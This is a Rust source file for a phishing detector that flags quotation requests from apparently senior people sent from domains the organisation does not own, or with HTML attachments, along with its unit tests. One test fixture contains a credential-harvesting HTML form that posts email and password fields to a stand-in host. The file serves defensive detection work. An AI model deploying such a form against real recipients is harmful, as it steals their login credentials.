//! Somebody of rank asks a stranger for a quotation.
//!
//! # What it sees
//!
//! A request for quotation, an order or a tender, signed by a person with a title (or in an organisation's name),
//! from an address that the organisation does not own and nothing confirms, or with an HTML page attached.
//!
//! # Why it matters
//!
//! This is how chosen members of a supply chain were approached: an executive of a real supplier, a plausible
//! project, and an attachment that asks for the reader's password. There is no link and no threat to notice.
//!
//! # How common
//!
//! Text-only fraud is about a third of what companies face (vendors' reports); the pattern of the cold-chain
//! campaign.
//!
//! # How severe
//!
//! High with a page attached, with a failed check or when a title is given, medium otherwise.
//!
//! # When it stays quiet
//!
//! When the person writes from the organisation's own domain and attaches nothing that opens in a browser: that is
//! how business is done.
//!
//! # Limits
//!
//! A buyer of a small firm who writes from free mail looks the same.

use crate::detector::Detector;
use crate::exhibit::{Exhibit, Standing};
use creel_evidence::mail::Authenticated;
use creel_evidence::text::inert;
use creel_evidence::verdict::{Action, Lure};
use creel_evidence::{Confidence, Finding, Severity};

/// See the file's documentation.
pub static DETECTOR: Detector = Detector {
    name: "executive-rfq",
    summary: "A person of rank, or an organisation, asks for a quotation from an address that is not the organisation's.",
    technique: None,
    attack: &["T1684.001"],
    severities: &[Severity::Medium, Severity::High],
    confidences: &[Confidence::Moderate],
    run,
};

fn run(exhibit: &Exhibit<'_>) -> Vec<Finding> {
    let Some(claim) = exhibit.claim.as_ref().filter(|_| exhibit.lure == Lure::BusinessRfq) else {
        return Vec::new();
    };
    // Who claims no organisation cannot write from outside of it.
    let is_organised = claim.person.as_deref() != Some(claim.name.as_str());
    let foreign = match exhibit.standing {
        Standing::FreeMail => true,
        // Who is authenticated and poses as nobody writes for an organisation whose name was not read well.
        Standing::Elsewhere => {
            is_organised && (exhibit.impersonation || exhibit.authenticated != Authenticated::Pass)
        }
        _ => false,
    };
    let forged = exhibit.standing == Standing::Own && exhibit.authenticated == Authenticated::Fail;
    let page = exhibit.action.kind == Action::HtmlAttachment;
    if !(foreign || forged || page) {
        return Vec::new();
    }
    let Some(at) = claim.at.first().cloned().or_else(|| exhibit.quote_from()) else { return Vec::new() };
    let who = match (&claim.person, &claim.title) {
        (Some(person), Some(title)) => format!("{person}, {title}"),
        (Some(person), None) => person.clone(),
        (None, Some(title)) => title.clone(),
        (None, None) => claim.name.clone(),
    };
    let but = match (page, foreign) {
        (true, _) => "attaches a page that opens in the browser",
        (_, true) => "does not write from the organisation's own domain",
        _ => "the sending domain did not authenticate",
    };
    let severity = if page || forged || claim.title.is_some() { Severity::High } else { Severity::Medium };
    let reason = format!("{} of {} asks for a quotation, but {but}", inert(&who), inert(&claim.name));
    vec![DETECTOR.sees(exhibit, severity, Confidence::Moderate).at(at).because(reason)]
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::trial::{hit, plain, quiet, with_file};

    const REQUEST: &str = "Dear Sir or Madam,\n\nRequest for quotation: please quote your best price for 500 vaccine \
        refrigerators as in the attached RFQ.\n\nKind regards,\nEdgar Wolff\nDirector of Procurement\nNorthlight Biomedical Ltd";

    #[test]
    fn hit_an_executive_who_writes_from_a_free_mailbox() {
        let header = "From: Edgar Wolff <edgar.wolff.office@gmail.com>\nSubject: RFQ - refrigerators, request for quotation";
        hit(&DETECTOR, &plain(header, REQUEST));
    }

    #[test]
    fn hit_a_request_with_a_page_attached() {
        let header = "From: Edgar Wolff <edgar.wolff@northlightbiomedical.example>\nSubject: RFQ - request for quotation";
        let page = "<html><body><form action=https://collect.test/a><input name=mail><input type=password></form></body></html>";
        hit(&DETECTOR, &with_file(header, REQUEST, "RFQ.html", "text/html", page));
    }

    #[test]
    fn miss_another_story() {
        quiet(
            &DETECTOR,
            &plain(
                "From: Edgar Wolff <e.wolff@gmail.com>\nSubject: Sunday",
                "Shall we meet on Sunday? Edgar",
            ),
        );
    }

    #[test]
    fn twin_a_buyer_who_names_no_organisation() {
        let header =
            "From: Katrin Vogel <k.vogel@polder.example>\nSubject: Request for quotation: door seals";
        let request = "Dear Heike,\n\ncould you quote 40 door seals, part 7731, delivered in October?\n\nKind regards\nKatrin Vogel\nPurchasing";
        quiet(&DETECTOR, &plain(header, request));
    }

    #[test]
    fn twin_a_buyer_at_the_companys_own_domain() {
        let header = "From: Edgar Wolff <edgar.wolff@northlightbiomedical.example>\nSubject: RFQ - request for quotation";
        quiet(&DETECTOR, &plain(header, REQUEST));
    }
}
